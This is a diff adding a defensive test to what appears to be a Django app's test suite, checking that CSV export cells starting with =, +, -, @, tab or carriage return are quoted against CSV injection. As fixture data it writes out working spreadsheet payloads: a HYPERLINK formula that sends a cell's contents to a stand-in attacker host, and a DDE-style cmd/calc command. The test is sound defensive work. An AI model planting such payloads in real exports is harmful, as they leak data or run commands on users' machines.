@@ -308,3 +308,30 @@ def test_the_evidence_pack_pdf_carries_the_labels(client, evidence_world):
         "on the evidence of contract years 2, 3",
     ):
         assert expected in text, expected
+
+
+def test_csv_cells_that_start_like_a_formula_are_quoted(client, world):
+    """An organization renamed `=HYPERLINK(...)` (or a school, a contract, a reference starting
+    with + - @ tab or carriage return) reaches the export as text: a leading single quote keeps a
+    spreadsheet from running it (OWASP, CSV injection)."""
+    world.partner_p.name = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
+    world.partner_p.save()
+    contract = world.contract_a
+    contract.name, contract.reference = "+1+cmd|' /C calc'!A0", "@SUM(1+1)"
+    contract.save()
+    school = contract.schools.order_by("name").first()
+    school.name = "\t=1+2"
+    school.save()
+    world.district_a.name = "-2+3"
+    world.district_a.save()
+    rows = csv_rows(get_as(client, world.users["state_1"], CSV_URL))
+    row = next(r for r in rows if r["reference"] == "'@SUM(1+1)")
+    assert row["lead_partner"] == '\'=HYPERLINK("http://evil.example/?d="&A2,"Click")'
+    assert row["name"] == "'+1+cmd|' /C calc'!A0"
+    assert row["district"] == "'-2+3"
+    assert row["schools"].startswith("'\t=1+2; ")
+    # Nothing else is touched: plain text, codes and dates are as they were.
+    assert row["state"] == "IL" and row["lifecycle_status"] == "active"
+    assert row["start_date"] == contract.start_date.isoformat()
+    for cell in (c for r in rows for c in r.values()):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
